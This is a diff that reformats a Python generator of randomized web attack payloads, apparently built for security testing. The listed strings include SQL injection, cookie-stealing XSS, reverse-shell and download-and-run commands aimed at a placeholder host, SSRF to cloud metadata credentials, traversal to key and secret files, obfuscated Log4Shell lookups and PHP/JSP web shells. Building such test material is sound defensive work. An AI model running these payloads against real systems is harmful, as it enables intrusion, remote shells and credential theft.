@@ -69,8 +69,10 @@ def _n(r: random.Random, low: int = 1, high: int = 9) -> int:
 # --- SQL injection -----------------------------------------------------------------------
 _SQL_BREAK = ["'", '"', "')", "'))", "1'", "1", "1)", "-1", "%'", "x'", '")', "0", "9999'"]
 _SQL_END = ["--", "-- -", "#", "/*", ";--", "", "", "%00", "-- x"]
+# fmt: off
 _SQL_TABLES = ["users", "information_schema.tables", "mysql.user", "pg_shadow", "sys.objects", "all_tables",
-               "sqlite_master", "accounts", "admin", "information_schema.columns"]  # fmt: skip
+               "sqlite_master", "accounts", "admin", "information_schema.columns"]
+# fmt: on
 _SQL_COLS = ["username", "password", "passwd", "email", "table_name", "column_name", "name", "pass", "hash"]
 
 
@@ -118,14 +120,16 @@ def sqli(r: random.Random) -> Payload:
 
 
 # --- cross-site scripting ---------------------------------------------------------------
+# fmt: off
 _XSS_SINK = ["alert(1)", "alert(document.domain)", "prompt(1)", "confirm`1`", "alert(String.fromCharCode(88,83,83))",
              "fetch('//{h}/'+document.cookie)", "eval(atob('YWxlcnQoMSk='))",
              "document.location='//{h}/?c='+document.cookie",
              "new Image().src='//{h}/'+document.cookie", "top['al'+'ert'](1)", "print()", "(alert)(1)",
-             "window.onerror=alert;throw 1", "import('//{h}/x.js')"]  # fmt: skip
+             "window.onerror=alert;throw 1", "import('//{h}/x.js')"]
 _XSS_BREAK = ["", "", '">', "'>", "</textarea>", "</title>", "-->", '"/>', "</script>", "'\">"]
 _XSS_EVENTS = ["onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter",
-               "onbegin", "onclick", "onauxclick", "onwheel", "onpageshow", "onresize", "onstart"]  # fmt: skip
+               "onbegin", "onclick", "onauxclick", "onwheel", "onpageshow", "onresize", "onstart"]
+# fmt: on
 
 
 _JS_SCHEMES = ["javascript:", "jav&#x09;ascript:", "&#106;avascript:", "java\nscript:", "JaVaScRiPt:"]
@@ -163,12 +167,14 @@ def xss(r: random.Random) -> Payload:
 
 # --- OS command injection ---------------------------------------------------------------
 _CMD_SEP = [";", "|", "||", "&", "&&", "\n", "%0a", "\r\n", "`", "$("]
+# fmt: off
 _CMD_UNIX = ["cat /etc/passwd", "id", "whoami", "uname -a", "ls -la /", "sleep {s}", "ping -c {s} {h}",
              "curl {h}/x.sh|sh", "wget http://{h}/b -O /tmp/b", "nc -e /bin/sh {h} {p}", "nslookup {h}",
              "bash -i >& /dev/tcp/{h}/{p} 0>&1", "cat /proc/self/environ", "echo $(({a}+{b}))", "rm -rf /tmp/*",
-             "python3 -c 'import os;os.system(\"id\")'", "perl -e 'print \"x\"'", "chmod +x /tmp/b"]  # fmt: skip
+             "python3 -c 'import os;os.system(\"id\")'", "perl -e 'print \"x\"'", "chmod +x /tmp/b"]
 _CMD_WIN = ["type C:\\Windows\\win.ini", "dir C:\\", "net user", "whoami /all", "powershell -enc SQBFAFgA",
-            "certutil -urlcache -f http://{h}/x.exe x.exe", "ping -n {s} {h}"]  # fmt: skip
+            "certutil -urlcache -f http://{h}/x.exe x.exe", "ping -n {s} {h}"]
+# fmt: on
 
 
 def cmdi(r: random.Random) -> Payload:
@@ -189,8 +195,10 @@ def cmdi(r: random.Random) -> Payload:
 
 
 # --- server-side request forgery ---------------------------------------------------------
+# fmt: off
 _LOOPBACK = ["127.0.0.1", "localhost", "0.0.0.0", "[::1]", "127.1", "2130706433", "0x7f000001", "0177.0.0.1",
-             "[::ffff:127.0.0.1]", "127.0.0.1.nip.io", "0", "[0:0:0:0:0:ffff:127.0.0.1]", "017700000001"]  # fmt: skip
+             "[::ffff:127.0.0.1]", "127.0.0.1.nip.io", "0", "[0:0:0:0:0:ffff:127.0.0.1]", "017700000001"]
+# fmt: on
 _METADATA = [
     "169.254.169.254/latest/meta-data/iam/security-credentials/",
     "169.254.169.254/latest/user-data",
@@ -202,14 +210,18 @@ _METADATA = [
     "2852039166/latest/meta-data/",
     "0xa9fea9fe/latest/meta-data/",
 ]
+# fmt: off
 _INTERNAL_PORTS = [":6379/", ":2375/containers/json", ":11211/_stats", ":8500/v1/agent/self", ":9200/_cat/indices",
                    ":22/", ":5984/_all_dbs", "/admin", "/server-status", ":8080/manager/html", ":10250/pods",
-                   ":2379/v2/keys"]  # fmt: skip
+                   ":2379/v2/keys"]
+# fmt: on
 
 
 def ssrf(r: random.Random) -> Payload:
-    scheme = r.choices(["http", "https", "gopher", "dict", "file", "ftp", "ldap", "tftp", "jar:http", "netdoc"],
-                       weights=[10, 3, 2, 2, 2, 1, 1, 1, 1, 1])[0]  # fmt: skip
+    scheme = r.choices(
+        ["http", "https", "gopher", "dict", "file", "ftp", "ldap", "tftp", "jar:http", "netdoc"],
+        weights=[10, 3, 2, 2, 2, 1, 1, 1, 1, 1],
+    )[0]
     if scheme in ("file", "netdoc"):
         return Payload(
             f"{scheme}://{r.choice(['/etc/passwd', '/proc/self/environ', '/c:/windows/win.ini', '/etc/hosts'])}"
@@ -220,8 +232,13 @@ def ssrf(r: random.Random) -> Payload:
     elif choice < 0.8:
         target = r.choice(_LOOPBACK) + r.choice(_INTERNAL_PORTS)
     else:
-        private = r.choice([f"10.{_n(r, 0, 255)}.{_n(r, 0, 255)}.{_n(r)}", f"192.168.{_n(r, 0, 9)}.{_n(r)}",
-                            f"172.16.{_n(r, 0, 31)}.{_n(r)}"])  # fmt: skip
+        private = r.choice(
+            [
+                f"10.{_n(r, 0, 255)}.{_n(r, 0, 255)}.{_n(r)}",
+                f"192.168.{_n(r, 0, 9)}.{_n(r)}",
+                f"172.16.{_n(r, 0, 31)}.{_n(r)}",
+            ]
+        )
         target = private + r.choice(_INTERNAL_PORTS)
     if scheme == "gopher":
         target = target.split("/")[0] + "/_" + r.choice(["stats", "INFO%0d%0a", "SET%20x%201%0d%0a"])
@@ -231,12 +248,14 @@ def ssrf(r: random.Random) -> Payload:
 
 
 # --- path traversal ----------------------------------------------------------------------
+# fmt: off
 _UP = ["../", "..\\", "%2e%2e%2f", "%2e%2e/", "..%2f", "%252e%252e%252f", "..%c0%af", "....//", "..%5c",
-       "%2e%2e%5c", "..;/", "..%252f", ".%2e/", "..\\/"]  # fmt: skip
+       "%2e%2e%5c", "..;/", "..%252f", ".%2e/", "..\\/"]
 _TARGETS = ["etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "proc/self/cmdline", "windows/win.ini",
             "boot.ini", "WEB-INF/web.xml", "var/log/apache2/access.log", ".env", ".git/config", "etc/issue",
             "root/.ssh/id_rsa", "app/config/parameters.yml", "inetpub/wwwroot/web.config",
-            ".aws/credentials"]  # fmt: skip
+            ".aws/credentials"]
+# fmt: on
 
 
 def traversal(r: random.Random) -> Payload:
@@ -293,9 +312,16 @@ def ssti(r: random.Random) -> Payload:
 def xxe(r: random.Random) -> Payload:
     root = r.choice(["r", "foo", "data", "user", "order", "xml", "root", "stockCheck"])
     ent = r.choice(["x", "xxe", "e", "file", "ent"])
-    target = r.choice(["file:///etc/passwd", "file:///c:/windows/win.ini", f"http://{_host(r)}/x.dtd",
-                       "php://filter/convert.base64-encode/resource=index.php", "expect://id",
-                       "file:///proc/self/environ"])  # fmt: skip
+    target = r.choice(
+        [
+            "file:///etc/passwd",
+            "file:///c:/windows/win.ini",
+            f"http://{_host(r)}/x.dtd",
+            "php://filter/convert.base64-encode/resource=index.php",
+            "expect://id",
+            "file:///proc/self/environ",
+        ]
+    )
     forms = [
         f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY {ent} SYSTEM "{target}">]><{root}>&{ent};</{root}>',
         f'<!DOCTYPE {root} [<!ENTITY % {ent} SYSTEM "{target}"> %{ent};]><{root}/>',
@@ -385,15 +411,17 @@ def nosql(r: random.Random) -> Payload:
 # --- CRLF / header injection ------------------------------------------------------------
 def crlf(r: random.Random) -> Payload:
     nl = r.choice(["%0d%0a", "\r\n", "%0a", "\n", "%E5%98%8A%E5%98%8D", "%0D%0A", "\\r\\n", "%5cr%5cn"])
-    header = r.choice([
-        f"Set-Cookie: session={_n(r, 1000, 9999)}",
-        f"Location: http://{_host(r)}/",
-        "X-Injected: 1",
-        f"Content-Length: 0{nl}{nl}HTTP/1.1 200 OK",
-        f"{nl}<script>alert(1)</script>",
-        "Access-Control-Allow-Origin: *",
-        f"Refresh: 0; url=http://{_host(r)}/",
-    ])  # fmt: skip
+    header = r.choice(
+        [
+            f"Set-Cookie: session={_n(r, 1000, 9999)}",
+            f"Location: http://{_host(r)}/",
+            "X-Injected: 1",
+            f"Content-Length: 0{nl}{nl}HTTP/1.1 200 OK",
+            f"{nl}<script>alert(1)</script>",
+            "Access-Control-Allow-Origin: *",
+            f"Refresh: 0; url=http://{_host(r)}/",
+        ]
+    )
     prefix = r.choice(["", "", "/", "en", "home", str(_n(r, 1, 99))])
     return Payload(f"{prefix}{nl}{header}")
 
@@ -407,8 +435,15 @@ def prototype(r: random.Random) -> Payload:
         return Payload({"__proto__": {prop: value}})
     if roll < 0.55:
         return Payload({"constructor": {"prototype": {prop: value}}})
-    path = r.choice([f"__proto__[{prop}]", f"__proto__.{prop}", f"constructor[prototype][{prop}]",
-                     f"constructor.prototype.{prop}", f"__pro__proto__to__[{prop}]"])  # fmt: skip
+    path = r.choice(
+        [
+            f"__proto__[{prop}]",
+            f"__proto__.{prop}",
+            f"constructor[prototype][{prop}]",
+            f"constructor.prototype.{prop}",
+            f"__pro__proto__to__[{prop}]",
+        ]
+    )
     return Payload(value, key=path)
 
 
@@ -416,15 +451,17 @@ def prototype(r: random.Random) -> Payload:
 def log4shell(r: random.Random) -> Payload:
     proto = r.choice(["ldap", "ldaps", "rmi", "dns", "iiop", "nis", "nds", "corba", "http"])
     where = f"{_host(r)}{r.choice(['', ':1389', ':1099', ':53'])}/{r.choice(['a', 'Exploit', 'x', 'o=tomcat'])}"
-    jndi = r.choice([
-        "jndi",
-        "${lower:j}ndi",
-        "${::-j}${::-n}${::-d}${::-i}",
-        "${env:NaN:-j}ndi",
-        "j${::-n}di",
-        "${upper:j}${lower:n}di",
-        "${lower:j}${lower:n}${lower:d}${lower:i}",
-    ])  # fmt: skip
+    jndi = r.choice(
+        [
+            "jndi",
+            "${lower:j}ndi",
+            "${::-j}${::-n}${::-d}${::-i}",
+            "${env:NaN:-j}ndi",
+            "j${::-n}di",
+            "${upper:j}${lower:n}di",
+            "${lower:j}${lower:n}${lower:d}${lower:i}",
+        ]
+    )
     sep = r.choice([":", "${::-:}", "${env:X:-:}"])
     if r.random() < 0.2:
         where = f"${{{r.choice(['env:AWS_SECRET_ACCESS_KEY', 'sys:java.version', 'env:USER', 'hostName'])}}}.{where}"
@@ -438,22 +475,39 @@ def log4shell(r: random.Random) -> Payload:
 # --- web-shell uploads ------------------------------------------------------------------
 def webshell(r: random.Random) -> Payload:
     name = r.choice(["shell", "cmd", "x", "upload", "image", "avatar", "c99", "r57", "b374k"])
-    filename = name + r.choice([".php", ".phtml", ".php5", ".php.jpg", ".asp;.jpg", ".jsp", ".aspx", ".php%00.png",
-                                ".pHp", ".phar", ".jspx", ".cer", ".shtml"])  # fmt: skip
+    filename = name + r.choice(
+        [
+            ".php",
+            ".phtml",
+            ".php5",
+            ".php.jpg",
+            ".asp;.jpg",
+            ".jsp",
+            ".aspx",
+            ".php%00.png",
+            ".pHp",
+            ".phar",
+            ".jspx",
+            ".cer",
+            ".shtml",
+        ]
+    )
     if r.random() < 0.08:
         filename = ".htaccess"
-    code = r.choice([
-        "<?php system($_GET['cmd']); ?>",
-        "<?=`$_GET[0]`?>",
-        "<?php eval($_POST['x']); ?>",
-        "GIF89a;<?php passthru($_REQUEST['c']); ?>",
-        "<?php echo shell_exec($_GET['e']); ?>",
-        '<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
-        '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", Request["c"]); %>',
-        "<?php @assert($_POST['a']); ?>",
-        "AddType application/x-httpd-php .jpg",
-        '<!--#exec cmd="id" -->',
-    ])  # fmt: skip
+    code = r.choice(
+        [
+            "<?php system($_GET['cmd']); ?>",
+            "<?=`$_GET[0]`?>",
+            "<?php eval($_POST['x']); ?>",
+            "GIF89a;<?php passthru($_REQUEST['c']); ?>",
+            "<?php echo shell_exec($_GET['e']); ?>",
+            '<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
+            '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", Request["c"]); %>',
+            "<?php @assert($_POST['a']); ?>",
+            "AddType application/x-httpd-php .jpg",
+            '<!--#exec cmd="id" -->',
+        ]
+    )
     roll = r.random()
     if roll < 0.35:
         return Payload({"filename": filename, "content": code})
